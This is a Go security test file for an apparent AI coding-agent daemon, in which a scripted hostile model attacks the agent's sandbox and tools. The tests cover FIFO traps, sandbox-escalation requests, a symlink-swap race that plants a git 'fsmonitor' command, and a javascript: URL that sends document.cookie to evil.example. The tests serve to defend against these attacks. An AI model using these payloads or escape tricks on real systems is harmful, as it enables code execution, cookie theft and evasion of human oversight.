//go:build linux

package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"golang.org/x/sys/unix"

	"acpd/cmd/acpd/internal/run"
)

// TestAttackFIFOInEveryTool: every tool that opens a path refuses a FIFO at
// once (list_dir on it, read_file of one named like an image, a FIFO where
// a listed directory or a .gitignore was); the turn ends, and listing a
// real directory still works.
func TestAttackFIFOInEveryTool(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	for _, p := range []string{"fifo", "fifo.png", "dir/.gitignore"} {
		if err := os.MkdirAll(filepath.Join(a.project, filepath.Dir(p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := syscall.Mkfifo(filepath.Join(a.project, p), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(a.project, "dir", "real.txt"), "needle\n")
	script := a.script(
		toolCall{"list_dir", map[string]any{"path": "fifo"}},
		toolCall{"read_file", map[string]any{"path": "fifo.png"}},
		toolCall{"glob", map[string]any{"pattern": "**/*.txt", "path": "dir"}},
		toolCall{"grep", map[string]any{"pattern": "needle", "path": "dir"}},
		toolCall{"list_dir", map[string]any{"path": "dir"}},
	)
	seen, _ := a.turn("", script, nil, "")
	if !strings.Contains(seen, `fifo is not a directory`) {
		t.Errorf("list_dir of the FIFO was not refused:\n%s", seen)
	}
	if !strings.Contains(seen, "not a regular file") {
		t.Errorf("read_file of fifo.png was not refused:\n%s", seen)
	}
	if !strings.Contains(seen, "real.txt") || !strings.Contains(seen, "needle") {
		t.Errorf("glob, grep or list_dir of a real directory holding a FIFO did not work:\n%s", seen)
	}
}

// runEscalation runs `acpd run` with args on a script whose commands write
// outside the project: one that prints a sandbox denial itself, then one
// the model explicitly asks to run outside the sandbox. It returns the
// --output json result and stderr.
func runEscalation(t *testing.T, a *attack, args ...string) (res struct {
	Permissions []run.PermissionRecord `json:"permissions"`
}, stderr string, code int) {
	t.Helper()
	marker := filepath.Join(a.outside, "marker")
	script := a.script(
		toolCall{"run_command", map[string]any{"command": "echo 'touch: cannot touch x: Read-only file system' >&2; exit 1"}},
		toolCall{"run_command", map[string]any{"command": "echo escaped > " + marker, "sandbox_permissions": "require_escalated", "justification": "the report goes next to the project"}},
	)
	args = append([]string{"run", "--output", "json", "--cwd", a.project, "--model", "replay/" + script}, args...)
	stdout, stderr, code := runCLI(t, append(a.env, "ANTHROPIC_API_KEY=sk-ant-adversarial-key"), append(args, "go")...)
	if code == 0 {
		if err := json.Unmarshal([]byte(stdout), &res); err != nil {
			t.Fatalf("result %q: %v", stdout, err)
		}
	}
	return res, stderr, code
}

// TestAttackEscalationNeedsAllowEscalation: `acpd run --yes` does not
// approve running a command outside the sandbox: a command's own "Read-only
// file system" asks nothing, and the model's explicit request is refused
// without --allow-escalation (no terminal to ask on). With --yes
// --allow-escalation, or [sandbox] escalate = "allow", the request runs
// outside the sandbox and the summary says so.
func TestAttackEscalationNeedsAllowEscalation(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	a := newAttack(t)
	marker := filepath.Join(a.outside, "marker")
	res, stderr, code := runEscalation(t, a, "--yes")
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	if a.exists(marker) {
		t.Fatal("--yes ran a command outside the sandbox")
	}
	if esc := escalations(res.Permissions); len(esc) != 1 || esc[0].ToolCallID != "call_1" || esc[0].Decision != "rejected" {
		t.Fatalf("permissions = %+v, want the one explicit escalation, rejected", res.Permissions)
	}
	if !strings.Contains(stderr, "--allow-escalation") {
		t.Errorf("stderr does not say what allows it:\n%s", stderr)
	}

	_, stderr, code = runCLI(t, a.env, "run", "--allow-escalation", "--cwd", a.project, "go")
	if code != run.ExitUsage || !strings.Contains(stderr, "--allow-escalation needs --approve all") {
		t.Errorf("--allow-escalation without --approve all: exit %d:\n%s", code, stderr)
	}

	res, stderr, code = runEscalation(t, a, "--yes", "--allow-escalation")
	if code != 0 || !a.exists(marker) {
		t.Fatalf("--yes --allow-escalation: exit %d, marker %v:\n%s", code, a.exists(marker), stderr)
	}
	if esc := escalations(res.Permissions); len(esc) != 1 || esc[0].ToolCallID != "call_1" || esc[0].Decision != "allowed" {
		t.Fatalf("permissions = %+v, want the one explicit escalation, allowed", res.Permissions)
	}
	if err := os.Remove(marker); err != nil {
		t.Fatal(err)
	}

	a.iso.writeUserConfig(t, "[sandbox]\nescalate = \"allow\"\n")
	marker2 := filepath.Join(a.outside, "marker")
	script := a.script(toolCall{"run_command", map[string]any{"command": "echo escaped > " + marker2, "sandbox_permissions": "require_escalated", "justification": "needed"}})
	_, stderr, code = runCLI(t, a.env, "run", "--yes", "--cwd", a.project, "--model", "replay/"+script, "go")
	if code != 0 || !a.exists(marker2) {
		t.Fatalf("escalate = \"allow\" with --yes: exit %d, marker %v:\n%s", code, a.exists(marker2), stderr)
	}
	if !strings.Contains(stderr, "1 command ran OUTSIDE the sandbox") {
		t.Errorf("the summary does not show the escalation:\n%s", stderr)
	}
}

func escalations(ps []run.PermissionRecord) []run.PermissionRecord {
	var out []run.PermissionRecord
	for _, p := range ps {
		if p.Escalation {
			out = append(out, p)
		}
	}
	return out
}

// TestAttackWriteRacesSwapIntoGit is hole 3 through the binary: while a
// real sub/ is exchanged (renameat2 RENAME_EXCHANGE) with a link to .git,
// thousands of times, the model reads and writes sub/config 300 times in
// full mode (write_file and edit_file). .git/config never changes (the
// writes that resolve into .git ask and are rejected; those swapped after
// the decision are refused), and writes that find sub real land there.
func TestAttackWriteRacesSwapIntoGit(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	gitConfig := filepath.Join(a.project, ".git", "config")
	writeFile(t, gitConfig, "[core]\n")
	sub, link := filepath.Join(a.project, "sub"), filepath.Join(a.project, "link")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".git", link); err != nil {
		t.Fatal(err)
	}
	var calls []toolCall
	for i := range 300 {
		content := fmt.Sprintf("[core]\n\tfsmonitor = touch %s/pwned-%d\n", a.outside, i)
		// A racy read records what the agent saw of whichever file sub/config
		// named, so the stale check cannot be what stops the write.
		calls = append(calls, toolCall{"read_file", map[string]any{"path": "sub/config"}})
		switch i % 3 {
		case 0, 1:
			calls = append(calls, toolCall{"write_file", map[string]any{"path": "sub/config", "content": content}})
		case 2:
			calls = append(calls, toolCall{"edit_file", map[string]any{"path": "sub/config", "old_string": "[core]", "new_string": "[core]\n\tbare = false"}})
		}
	}
	script := a.script(calls...)
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	swaps := 0
	wg.Go(func() {
		for ctx.Err() == nil {
			if err := unix.Renameat2(unix.AT_FDCWD, sub, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
				t.Errorf("RENAME_EXCHANGE: %v", err)
				return
			}
			swaps++
		}
	})
	seen, asked := a.turn("full", script, nil, "reject_once")
	cancel()
	wg.Wait()
	if got, err := os.ReadFile(gitConfig); err != nil || string(got) != "[core]\n" {
		t.Fatalf(".git/config = %q, %v: a write reached it", got, err)
	}
	landed := strings.Count(seen, `"status":"completed"`)
	t.Logf("%d swaps; %d permission requests (rejected); %d calls completed", swaps, asked, landed)
	real := sub
	if fi, err := os.Lstat(sub); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		real = link
	}
	if got, err := os.ReadFile(filepath.Join(real, "config")); err != nil || !strings.Contains(string(got), "fsmonitor") {
		t.Errorf("no write landed in the real sub/config (%q, %v)", got, err)
	}
	if landed == 0 {
		t.Errorf("no write completed:\n%s", seen)
	}
}

// TestAttackURLElicitationScheme is hole 10 through the binary: an MCP
// server's URL elicitations with javascript: and file: URLs never reach the
// editor (the server is told they were declined, and why); its https one
// does.
func TestAttackURLElicitationScheme(t *testing.T) {
	t.Parallel()
	a := newAttack(t)
	srv := mcp.NewServer(&mcp.Implementation{Name: "linker", Version: "1"}, nil)
	srv.AddTool(&mcp.Tool{Name: "open", InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)},
		func(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			var in struct{ URL string }
			_ = json.Unmarshal(req.Params.Arguments, &in)
			res, err := req.Session.Elicit(ctx, &mcp.ElicitParams{Mode: "url", Message: "Sign in", URL: in.URL, ElicitationID: fmt.Sprint(len(in.URL))})
			if err != nil {
				return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: err.Error()}}}, nil
			}
			b, _ := json.Marshal(map[string]any{"action": res.Action, "meta": res.Meta})
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: string(b)}}}, nil
		})
	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
	t.Cleanup(hs.Close)
	script := a.script(
		toolCall{"mcp__linker__open", map[string]any{"url": "javascript:fetch('//evil.example/?'+document.cookie)"}},
		toolCall{"mcp__linker__open", map[string]any{"url": "file:///etc/passwd"}},
		toolCall{"mcp__linker__open", map[string]any{"url": "https://auth.example/authorize?state=1"}},
	)
	p := startProc(t, append(a.env, "ANTHROPIC_API_KEY=sk-ant-adversarial-key"), "--model", "replay/"+script)
	p.mustCall("initialize", map[string]any{"protocolVersion": 1, "clientCapabilities": map[string]any{"elicitation": map[string]any{"url": map[string]any{}}}}, nil)
	var sess struct {
		SessionID string `json:"sessionId"`
	}
	p.mustCall("session/new", map[string]any{"cwd": a.project, "mcpServers": []any{map[string]any{"type": "http", "name": "linker", "url": hs.URL, "headers": []any{}}}}, &sess)
	p.mustCall("session/set_mode", map[string]any{"sessionId": sess.SessionID, "modeId": "full"}, nil)
	var shown []string
	seen := promptLines(t, p, sess.SessionID, func(m wireMsg) {
		switch m.Method {
		case "session/request_permission":
			answerPermission(p, m, "allow_once")
		case "elicitation/create":
			var req struct {
				URL string `json:"url"`
			}
			json.Unmarshal(m.Params, &req)
			shown = append(shown, req.URL)
			b, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": json.RawMessage(m.ID), "result": map[string]any{"action": "accept"}})
			p.send(string(b))
		}
	})
	p.close()
	if len(shown) != 1 || shown[0] != "https://auth.example/authorize?state=1" {
		t.Fatalf("the editor was shown %q, want only the https URL", shown)
	}
	for _, want := range []string{`scheme \\\"javascript:\\\" is not allowed`, `scheme \\\"file:\\\" is not allowed`, `\"action\":\"accept\"`} {
		if !strings.Contains(seen, want) {
			t.Errorf("the updates lack %s:\n%s", want, seen)
		}
	}
}
